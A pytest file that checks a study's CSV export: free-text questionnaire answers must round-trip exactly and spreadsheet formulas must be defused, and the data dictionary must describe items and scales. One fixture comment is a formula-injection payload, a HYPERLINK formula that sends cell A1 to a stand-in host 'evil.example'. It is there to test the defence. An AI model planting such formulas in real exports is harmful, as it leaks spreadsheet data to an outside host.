"""Free-text and choice answers reach the export quoted safely, and the data dictionary describes every
questionnaire item (type, range, reversal, options) and every named scale (its items, which are reversed)."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from steakhouse_store_study import Participant, join, play_stored_trial
from steakhouse_testing import write_study

from analysis.exports.dictionary_items import spreadsheet_safe
from analysis.exports.study_export import export_study
from server.flow import service
from store.engine import Store
from store.studies import sync_study
from study_config.catalog import load_one

ITEMS = [
    {"id": "fluency", "text": "Fluent.", "scale": {"min": 1, "max": 7, "labels": {1: "No", 7: "Yes"}}},
    {"id": "effort", "text": "Effort.", "scale": {"min": 1, "max": 7}, "reverse": True},
    {"id": "hand", "type": "choice", "text": "Hand?", "options": ["Left", "Right"]},
    {"id": "comment", "type": "text", "text": "Anything?", "required": False},
]
COMMENTS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1, "click me")',
    "csv": 'commas, "double quotes",\nnew lines\r\nand a tab\there',
    "plus": "+1 for the robot",
    "plain": "All fine.",
}


@pytest.fixture(scope="module")
def exported(module_db_url, tmp_path_factory):
    store = Store(module_db_url)
    store.migrate()
    folder = tmp_path_factory.mktemp("studies")
    loaded = load_one(write_study(folder, "texts", robots=["stay"], kitchens=["practice"], factors=["robot"],
                                  world={"orders": 1, "horizon": 30, "kb_delay": 1},
                                  questionnaires=[{"id": "post", "items": ITEMS, "scales": [
                                      {"id": "team", "title": "Teamwork", "items": ["fluency", "effort"]}]}]))
    with store.transaction() as session:
        sync_study(session, loaded.study)
    for n, (name, comment) in enumerate(COMMENTS.items()):
        pid = join(store, loaded, name)
        play_stored_trial(store, loaded, pid, Participant(seed=n))
        service.submit_questionnaire(store, loaded, pid, "post",
                                     {"fluency": 5, "effort": 2, "hand": n % 2, "comment": comment})
    out = tmp_path_factory.mktemp("export")
    result = export_study(store.engine, "texts", out)
    store.dispose()
    return result


def test_text_answers_round_trip_through_the_csv_and_formulas_are_defused(exported):
    answers = pd.read_csv(exported.out_dir / "answers.csv", keep_default_na=False)
    by_item = answers.groupby("item")
    comments = sorted(by_item.get_group("comment")["text"])
    expected = sorted(spreadsheet_safe(text) for text in COMMENTS.values())
    assert comments == expected, "every comment is read back exactly (quotes, commas and line breaks included)"
    assert "'=HYPERLINK(" in "".join(comments) and "'+1 for the robot" in comments
    assert "All fine." in comments
    with (exported.out_dir / "answers.csv").open(newline="", encoding="utf-8") as handle:
        raw = list(csv.DictReader(handle))
    assert all(not row["text"].startswith(("=", "+", "-", "@")) for row in raw), "nothing a spreadsheet would run"
    choices = by_item.get_group("hand")
    assert set(zip(choices["value"], choices["text"], strict=True)) == {("0", "Left"), ("1", "Right")}
    ratings = by_item.get_group("effort")
    assert set(ratings["value"]) == {"2"} and set(ratings["text"]) == {""}, "ratings are exported as given"
    stored = exported.dataset.tables["answers.csv"]
    assert sorted(stored[stored["item"] == "comment"]["text"]) == sorted(COMMENTS.values()), "raw in memory"


def test_text_items_are_not_cell_columns(exported):
    cells = pd.read_csv(exported.out_dir / "cells.csv")
    assert {"post.fluency", "post.effort", "post.hand"} <= set(cells.columns)
    assert "post.comment" not in cells.columns


def test_the_data_dictionary_describes_items_and_scales(exported):
    markdown = (exported.out_dir / "data_dictionary.md").read_text(encoding="utf-8")
    assert "## Questionnaire items and scales" in markdown
    assert ("| post.effort | rating 1..7, reversed | “Effort.” (after each main trial); reverse-coded: scored as "
            "8 − value in scales |") in markdown
    assert "| post.hand | choice | “Hand?” (after each main trial); options: 0 = Left; 1 = Right |" in markdown
    assert "| post.team | fluency, effort | Teamwork: mean of fluency, effort after reversing effort (min + max − " \
           "value) |" in markdown
    with (exported.out_dir / "data_dictionary.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    scales = [r for r in rows if r["file"] == "scales"]
    assert [(r["column"], r["type"]) for r in scales] == [("post.team", "number")]
    items = {r["column"]: r["type"] for r in rows if r["file"] == "items"}
    assert items == {"post.fluency": "rating 1..7", "post.effort": "rating 1..7, reversed", "post.hand": "choice",
                     "post.comment": "text"}
    text_column = next(r for r in rows if r["file"] == "answers.csv" and r["column"] == "text")
    assert "formula" in text_column["description"]
